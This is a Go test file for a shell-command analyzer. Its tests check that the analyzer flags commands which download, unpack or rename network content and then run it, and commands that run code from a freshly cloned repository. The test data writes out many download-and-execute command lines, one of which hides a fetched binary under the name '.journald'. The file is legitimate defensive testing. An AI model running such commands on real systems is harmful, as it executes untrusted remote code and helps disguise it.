package shell

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestDownloadCarried: downloaded content moved, copied, unpacked or
// decompressed and then run is still downloaded code; the same steps on
// files that never came from the network are quiet.
func TestDownloadCarried(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd  string
		exec bool // net.download-exec expected
	}{
		// unpacked from a downloader's pipe
		{"curl -sL http://x/xm.tgz | tar xz -C /tmp && /tmp/xm/run", true},
		{"curl -sL http://x/xm.tgz | tar -xzf - -C /tmp && /tmp/xm/run", true},
		{"curl -sL http://x/xm.tgz | tar --extract --gzip --directory=/opt/x && /opt/x/bin/x", true},
		{"wget -qO- http://x/xm.tgz | tar xz && ./xm/run", true},
		{"curl -sL http://x/a.tgz | gunzip | tar x -C /tmp && sh /tmp/a/install.sh", true},
		{"curl -sL http://x/a.tgz | tar xz -C /tmp && cd /tmp/a && ./run", true},
		// unpacked from a downloaded file
		{"curl -sLo a.tgz http://x/a.tgz && tar xzf a.tgz && ./a/run", true},
		{"curl -sLo /tmp/a.tgz http://x/a.tgz && tar -C /tmp -xzf /tmp/a.tgz && /tmp/a/run", true},
		{"curl -sLo /tmp/a.zip http://x/a.zip && unzip /tmp/a.zip -d /tmp/a && /tmp/a/run", true},
		{"curl -sLo /tmp/a.7z http://x/a.7z && 7z x /tmp/a.7z -o/tmp/a && /tmp/a/run", true},
		{"curl -sLo /tmp/a.gz http://x/a.gz && gunzip /tmp/a.gz && chmod +x /tmp/a && /tmp/a", true},
		{"curl -sLo /tmp/a.xz http://x/a.xz && xz -d /tmp/a.xz && /tmp/a", true},
		// moved or copied, then run by its new name
		{"curl -sLo /tmp/a http://x/a && mv /tmp/a /tmp/.journald && /tmp/.journald", true},
		{"curl -sLo /tmp/a http://x/a && cp /tmp/a /usr/local/bin/b && b", true},
		{"curl -sLo /tmp/a http://x/a && install -m 755 /tmp/a ~/.local/bin/ && a", true},
		{"curl -sLo /tmp/a http://x/a && mv -t /opt /tmp/a && /opt/a", true},
		// an archive read from a downloader through process substitution
		{"bsdtar -xf <(curl -s https://x/pkg.7z) -C /tmp/pkg && /tmp/pkg/setup", true},
		{"tar -x -f <(wget -qO- https://x/y.tgz) && ./y/run", true},
		// nothing downloaded, or nothing run
		{"tar xzf vendor.tgz -C /tmp && /tmp/vendor/run", false},
		{"curl -sL http://x/a.tgz | tar tz", false},
		{"curl -sLo a.tgz http://x/a.tgz && tar czf b.tgz src && ./b/run", false},
		{"curl -sLo /tmp/a http://x/a && cp ./tool /usr/local/bin/tool && tool", false},
		{"curl -sLo a.json http://x/a.json && mv a.json data/ && make", false},
		{"unzip build.zip -d out && ./out/run", false},
		// a downloaded file moved into a folder taints that folder, not
		// the project's own scripts
		{"curl -sLo a.json http://x/a.json && mv a.json data/ && ./scripts/build.sh", false},
		{"curl -sLo a.tgz http://x/a.tgz && tar xzf a.tgz -C vendor && ./vendor/a/run", true},
		{"curl -sLo a.tgz http://x/a.tgz && tar xzf a.tgz -C vendor && ./scripts/build.sh", false},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			got := ids(Analyze(tt.cmd))
			if tt.exec {
				assert.Contains(t, got, IDDownloadExec)
			} else {
				assert.NotContains(t, got, IDDownloadExec)
			}
		})
	}
}

// TestCloneRun: a program or a Makefile run from a repository cloned in
// the same command is asked about (a person decides); reading the clone,
// or a package manager's own install in it, is not.
func TestCloneRun(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd string
		ask bool
	}{
		{"git clone https://github.com/x/fast-build /tmp/fb && cd /tmp/fb && ./setup.sh", true},
		{"git clone https://gitlab.com/x/devtools.git /tmp/dt && make -C /tmp/dt install", true},
		{"git clone https://github.com/a/b && cd b && make test", true},
		{"git clone --depth 1 https://github.com/a/b.git && sh b/install.sh", true},
		{"git clone https://github.com/a/b && cat b/README.md", false},
		{"git clone https://github.com/a/b && cd b && ls", false},
		{"cd project && ./setup.sh", false},
		{"make test", false},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			got := ids(Analyze(tt.cmd))
			if tt.ask {
				assert.Contains(t, got, IDCloneExec)
			} else {
				assert.NotContains(t, got, IDCloneExec)
			}
		})
	}
}
